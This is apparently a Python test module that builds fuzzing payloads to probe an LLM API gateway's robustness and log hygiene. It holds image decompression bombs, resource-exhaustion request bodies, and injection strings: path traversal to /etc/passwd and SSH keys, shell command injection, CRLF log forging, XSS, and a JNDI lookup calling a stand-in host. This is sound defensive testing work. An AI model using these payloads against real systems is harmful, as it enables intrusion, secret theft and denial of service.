"""Payloads of attacks: bodies, tools, images and the texts of injections. Pure."""

from __future__ import annotations

import json
import random
import struct
import zlib
from collections.abc import Iterator, Mapping
from typing import Any

from tests.images import bomb, chunk, data_url, picture, png, png_header

MARK = "INJECTED"
"""Begins every forged line and header; no line of a log may begin with it."""
SECRET = "swordfish-of-the-prompt"
"""Part of prompts; no log may contain it."""


_WORDS = ("the", "cat", "sat", "on", "a", "mat", "and", "saw", "seven", "rows", "of", "glass", "under", "it.")
_BLOCK_WORDS = 8192


def common_words(dice: random.Random, size: int) -> str:
    """Return `size` characters of words that are one token each: the most tokens for the least work."""
    block = " ".join(dice.choice(_WORDS) for _ in range(_BLOCK_WORDS)) + " "
    return (block * (size // len(block) + 1))[:size]


def strange_words(dice: random.Random, size: int) -> str:
    """Return `size` characters of words that no tokenizer knows, none of which occurs twice: the most work,
    as each is split into many tokens, and no cache of words helps."""
    return dice.randbytes(size // 2 + 1).hex().replace("7", " ")[:size]


def chat(content: Any, **fields: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": content}], "max_tokens": 4, **fields}


def long_chat(text: str) -> bytes:
    """Return a chat body with one long message."""
    return json.dumps(chat(text)).encode()


def empty_objects(count: int) -> bytes:
    """Return a chat body whose messages are `count` empty objects."""
    return b'{"messages":[' + b"{}," * (count - 1) + b"{}]}"


def many_tools(dice: random.Random, count: int) -> bytes:
    """Return a chat body that requires a call of one of `count` tools, each with a schema of its own."""
    tools = [
        {
            "type": "function",
            "function": {
                "name": f"tool_{number}",
                "description": common_words(dice, 40),
                "parameters": {
                    "type": "object",
                    "properties": {
                        f"city_{number}": {"type": "string", "minLength": 1},
                        "days": {"type": "integer", "minimum": 0, "maximum": 10 + number},
                        "kind": {"enum": [f"a{number}", f"b{number}", "c"]},
                    },
                    "required": [f"city_{number}"],
                },
            },
        }
        for number in range(count)
    ]
    return json.dumps(chat("Plan my day.", tools=tools, tool_choice="required")).encode()


# --- images ------------------------------------------------------------------------------------------


def rgb_png(width: int, height: int) -> bytes:
    """Return a valid black PNG of three bytes a pixel, of about a thousandth of that in the file."""
    packer, row = zlib.compressobj(6), bytes(1 + 3 * width)
    rows = b"".join([*(packer.compress(row) for _ in range(height)), packer.flush()])
    return png(width, height, [(b"IDAT", rows)], depth=8, colour=2)


def image_part(url: str) -> dict[str, Any]:
    return {"type": "image_url", "image_url": {"url": url}}


def image_chat(*urls: str) -> dict[str, Any]:
    return chat([*map(image_part, urls), {"type": "text", "text": "What is this?"}])


def image_bombs(dice: random.Random) -> Mapping[str, str]:
    """Return URLs of images that are damaged, or much larger than their files, by name."""
    whole = picture("red", (64, 64))
    jpeg, webp, bmp = (picture("blue", (64, 64), kind) for kind in ("JPEG", "WEBP", "BMP"))
    text = zlib.compress(bytes(2**26), 9)
    found = {
        "a bomb of one bit": bomb(),
        "a header of 65,535²": png_header(65_535, 65_535),
        "a header of 2³¹": png_header(2**31 - 1, 1),
        "no width": png_header(0, 100),
        "no pixels": png_header(64, 64),
        "another chunk's length": whole[:8] + b"\xff\xff\xff\xff" + whole[12:],
        "a compressed text of 64 MiB": whole[:33] + chunk(b"zTXt", b"x\x00\x00" + text) + whole[33:],
        "a colour profile of 64 MiB": whole[:33] + chunk(b"iCCP", b"x\x00\x00" + text) + whole[33:],
        "100,000 empty chunks": whole[:33] + chunk(b"tEXt", b"a\x00b") * 100_000 + whole[33:],
        "a JPEG of 65,500²": _jpeg_of(jpeg, 65_500),
        "a BMP of 2³¹": bmp[:18] + struct.pack("<ii", 2**31 - 1, 2**31 - 1) + bmp[26:],
        "a negative BMP": bmp[:18] + struct.pack("<ii", -1, -(2**31)) + bmp[26:],
        "a GIF of 65,535²": b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",\x00\x00\x00\x00",
        "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>",
        "TIFF": b"II*\x00\x08\x00\x00\x00" + b"\xff" * 64,
        "nothing": b"",
    }
    urls = {name: data_url(data) for name, data in found.items()}
    for name, data in (("PNG", whole), ("JPEG", jpeg), ("WEBP", webp), ("BMP", bmp)):
        for number in range(4):
            urls[f"a cut {name} {number}"] = data_url(data[: dice.randrange(1, len(data) - 1)])
            urls[f"a damaged {name} {number}"] = data_url(_damaged(dice, data))
    return urls | {"bad base64": "data:image/png;base64,AA*A", "a text": "data:text/html,<script>"}


def _jpeg_of(data: bytes, side: int) -> bytes:
    """Return a JPEG with other dimensions in its frame header."""
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", side, side) + data[at + 4 :]


def _damaged(dice: random.Random, data: bytes) -> bytes:
    damaged = bytearray(data)
    for _ in range(8):
        damaged[dice.randrange(8, len(damaged))] = dice.randrange(256)
    return bytes(damaged)


# --- injections --------------------------------------------------------------------------------------

NAMES = (
    f"pocket\r\n{MARK}: yes", f"pocket\n{MARK} 12:00:00 gateway stopping", "\x1b[2J\x1b[31mred",
    "\x9b31mred", "a\x00b", "../../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "~root/.ssh/id_rsa",
    "pocket/../../secrets", "%2e%2e%2fetc%2fpasswd", "$(touch injected)", "`touch injected`",
    "; touch injected",
    "{{7*7}}", "{0.__class__}", "%s%s%n", "\u202egnp.exe", f"a\u2028{MARK}", f"a\x85{MARK}", "\ufeffpocket",
    "\ud800", "x" * 5000, "", " ", "None", "<script>alert(1)</script>",
)  # fmt: skip
PATHS = (
    f"/v1/models/%0d%0a{MARK}:%20yes", f"/v1/models/a%0a{MARK}", "/v1/models/%1b%5b2J", "/v1/models/%00",
    "/v1/models/..%2f..%2f..%2fetc%2fpasswd", "/v1/models/../../../../etc/passwd", "/../../../etc/passwd",
    "/assets/../../../../etc/passwd", "/assets/..%2f..%2f..%2fbroker%2fapp.py", "/assets/%2e%2e/app.py",
    "/.git/config", "/v1/responses/..%2f..%2fetc%2fpasswd", f"/v1/responses/%0d%0a{MARK}",
    f"/v1/cache?model=%0d%0a{MARK}", f"/v1/status?%0a{MARK}", "/static/%c0%ae%c0%ae/", "/%ff%fe",
    f"/nowhere%0d%0a{MARK}:%20yes", "//evil.test/%2e%2e", "/http://evil.test/", "/\\evil.test",
)  # fmt: skip
HEADERS: tuple[bytes, ...] = (
    b"x-request-id: a\x1b[31m", b"x-request-id: a%0d%0aINJECTED: yes", b"x-request-id: " + b"\xff" * 40,
    b"user-agent: \x1b]0;title\x07", b"authorization: Bearer \x1b[2J", b"x-api-key: a\tb",
    b"x-forwarded-for: 127.0.0.1\x1b[2J", b"referer: INJECTED", b"accept-language: ${jndi:ldap://evil.test/a}",
)  # fmt: skip


def injected_bodies(tools: int = len(NAMES)) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield requests, as path and body, with the texts of `NAMES` wherever a body has a name.

    `tools`: how many of them become the name of a tool too, whose prompts take the longest.
    """
    tool = {"type": "function", "function": {"name": "a", "parameters": {"type": "object"}}}
    for number, name in enumerate(NAMES):
        yield "/v1/chat/completions", chat(SECRET, max_tokens=1, model=name)
        yield "/v1/completions", {"prompt": SECRET, "max_tokens": 1, "model": name}
        salted = {"cache_salt": name, "user": name, "stop": [name or "x"]}
        yield "/v1/chat/completions", chat(SECRET, max_tokens=1, **salted)
        if number < tools:
            named = {**tool, "function": {**tool["function"], "name": name}}  # type: ignore[dict-item]
            yield "/v1/chat/completions", chat(SECRET, max_tokens=1, tools=[named])
        yield "/v1/chat/completions", chat(SECRET, max_tokens=1, chat_template_kwargs={name or "x": name})
        yield "/v1/responses", {"input": SECRET, "max_output_tokens": 16, "previous_response_id": name}
        yield (
            "/v1/messages",
            {"model": name, "max_tokens": 1, "messages": [{"role": "user", "content": SECRET}]},
        )
        yield "/v1/chat/completions", {"messages": [{"role": name, "content": SECRET}], "max_tokens": 1}
        yield "/v1/embeddings", {"model": name, "input": SECRET}
        yield "/v1/chat/completions", chat(SECRET, max_tokens=1, response_format={"type": name})
        yield "/v1/chat/completions", image_chat(name)
